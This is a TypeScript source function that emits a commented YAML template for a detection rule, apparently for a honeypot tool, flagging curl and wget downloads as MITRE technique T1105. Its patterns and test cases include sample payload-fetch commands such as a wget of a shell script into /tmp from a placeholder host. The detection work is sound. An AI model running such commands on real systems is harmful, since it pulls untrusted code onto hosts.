/**
 * A commented rule file to begin with. It is sound and its examples hold, so that
 * `validate` and `rules test` show at once what a change has broken.
 *
 * @param ruleId id that the schema accepts
 */
export function ruleTemplate(ruleId: string): string {
  return `# Prove this file with:
#   decnet-ttp validate --rules DIRECTORY
#   decnet-ttp rules test --rules DIRECTORY ${ruleId}
rule_id: ${ruleId}
# Part of the identity of every tag: raise it when the rule comes to mean something else.
rule_version: 1
name: ${ruleId.toLowerCase().replace(/[^a-z0-9]+/g, "_")}
description: >-
  Say in plain sentences what an attacker does here, and why it matters.

# Kinds of event: command, session, http_request, auth_attempt, payload, intel, email,
# canary_fingerprint, identity, credential, http_fingerprint, ipv6_leak, jarm, hassh.
applies_to: [command]

# Every group that is present must hold. A condition looks at the default field of the kind, or
# at another with field: (see decnet-ttp rules fields KIND). It has one of: pattern (RE2, no
# look-arounds), equals, contains, starts_with, ends_with, in, command.
match:
  any:
    # One simple command of the text, read as a shell reads it.
    - command: { program: [curl, wget], args: '(?i)\\bexample\\.invalid\\b' }
    # A text anywhere in the command.
    - pattern: '(?i)\\bfetch\\s+\\S*example\\.invalid'
  none:
    - contains: --help

# Where one of these holds, the rule does not match; said by explain and counted. What should not
# count on your own hosts for rules of the pack goes into exceptions.yaml of the directory:
#   - { rules: [R0012, "R01*"], attacker_ip: [203.0.113.0/24], reason: our scanner }
# with attacker_ip, decky_id or command (a pattern), and expires_at where it is for a time.
except:
  - name: documentation
    match: { contains: /usr/share/doc/ }

# Look techniques up with: decnet-ttp attack lookup T1105
emits:
  - tactic: TA0011
    technique_id: T1105
    # From 0 to 1. What administrators do every day gets less than 0.6.
    confidence: 0.80

evidence_fields: [command_text]

# What the rule must and must not match; at least four of each are a good start.
tests:
  match:
    - curl -O http://example.invalid/payload
    - cd /tmp && wget -q https://example.invalid/a.sh
    - fetch http://example.invalid/x
    - sudo /usr/bin/wget example.invalid
  no_match:
    - echo "wget http://example.invalid/"
    - curl --help example.invalid
    - ping example.invalid
    - wget http://192.0.2.1/
    - curl -O http://example.invalid/usr/share/doc/a

references:
  - https://attack.mitre.org/techniques/T1105/
`;
}
